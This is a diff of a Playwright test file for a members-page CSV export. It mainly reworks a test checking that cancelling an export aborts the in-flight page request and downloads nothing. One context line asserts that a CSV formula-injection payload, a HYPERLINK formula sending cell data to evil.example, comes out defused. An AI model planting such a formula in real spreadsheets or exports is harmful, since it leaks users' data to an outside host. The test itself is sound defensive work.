@@ -1,8 +1,15 @@
+import type { Download, Request } from '@playwright/test';
 import { expect, test } from './fixtures';
 import { apiMembers, dataTable, headerLabels, readCsv, rowNames } from './table-helpers';
 
 /** "Export CSV" on the members page: every row of the filter, the visible columns, defused. */
 const MEMBERS = '/spaces/general/members';
+/** The export's requests: pages of 100 (the table itself asks for 20 at a time). */
+const EXPORT_PAGE = /\/spaces\/general\/members\?.*per_page=100/;
+
+function exportPageOf(request: Request): number {
+  return Number(new URL(request.url()).searchParams.get('page'));
+}
 
 test.describe('space members export', () => {
   test('exports every row of the filter as CSV with the visible columns', async ({
@@ -57,24 +64,64 @@ test.describe('space members export', () => {
     expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
   });
 
-  test('shows the progress of the walk and can be cancelled', async ({ adminPage: page }) => {
+  test('cancelling stops the walk: the page in flight is aborted and nothing is downloaded', async ({
+    adminPage: page,
+    adminApi,
+  }) => {
+    const { members } = await apiMembers(adminApi, 'general', { per_page: 100 });
+    expect(members.last_page, 'the export must walk more than one page').toBeGreaterThan(1);
     await page.goto(MEMBERS);
     await expect(rowNames(page)).toHaveCount(20);
-    // Slow pages of 100, so the walk is still running when Cancel is pressed.
-    await page.route(/\/spaces\/general\/members\?.*per_page=100/, async (route) => {
-      await new Promise((resolve) => setTimeout(resolve, 1500));
+
+    // Every export page requested, in order. Pages after the first are held until the test
+    // lets them go, so the walk is mid-way, with page 2 in flight, when Cancel is pressed.
+    const requested: number[] = [];
+    let pageTwoInFlight: Request | null = null;
+    let releaseHeldPages = () => {};
+    const held = new Promise<void>((resolve) => (releaseHeldPages = resolve));
+    await page.route(EXPORT_PAGE, async (route) => {
+      const pageNumber = exportPageOf(route.request());
+      requested.push(pageNumber);
+      if (pageNumber === 2) pageTwoInFlight ??= route.request();
+      if (pageNumber > 1) await held;
+      // A request the page aborted meanwhile can no longer be continued.
       await route.continue().catch(() => undefined);
     });
-    let downloads = 0;
-    page.on('download', () => (downloads += 1));
+    const downloads: Download[] = [];
+    page.on('download', (download) => downloads.push(download));
 
     await page.getByRole('button', { name: 'Export CSV' }).click();
     const progress = page.getByRole('status').filter({ has: page.getByRole('progressbar') });
     await expect(progress.getByRole('progressbar', { name: 'Export progress' })).toBeVisible();
-    await expect(progress).toContainText(/Page 1 of \d+/);
+    await expect(progress).toContainText(`Page 1 of ${members.last_page}`);
+    await expect.poll(() => [...requested]).toEqual([1, 2]);
+
+    // How the request in flight ends: aborted by Cancel, or answered once the test lets it go.
+    const isPageTwo = (request: Request) => request === pageTwoInFlight;
+    const pageTwoOutcome = Promise.race([
+      page
+        .waitForEvent('requestfailed', isPageTwo)
+        .then((request) => request.failure()?.errorText ?? 'failed'),
+      page.waitForEvent('requestfinished', isPageTwo).then(() => 'answered'),
+    ]);
     await progress.getByRole('button', { name: 'Cancel export' }).click();
     await expect(page.getByText('Export cancelled: nothing was downloaded.')).toBeVisible();
-    await expect(page.getByRole('button', { name: 'Export CSV' })).toBeEnabled();
-    expect(downloads).toBe(0);
+
+    // Let the held pages go at full speed. A walk that went on would now get page 2, fetch the
+    // remaining pages and download its file.
+    releaseHeldPages();
+    expect(await pageTwoOutcome).toBe('net::ERR_ABORTED');
+
+    // A complete export started now takes at least as long as what remained of the cancelled
+    // one, so once its file arrives, the cancelled walk has had all the time it needed.
+    const witness = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Export CSV' }).click();
+    const { records } = await readCsv(await witness);
+    expect(records).toHaveLength(members.total + 1);
+
+    // One download (the witness), and no page fetched for the cancelled walk after Cancel.
+    expect(downloads).toHaveLength(1);
+    const everyPage = Array.from({ length: members.last_page }, (_, index) => index + 1);
+    expect(requested).toEqual([1, 2, ...everyPage]);
   });
 });
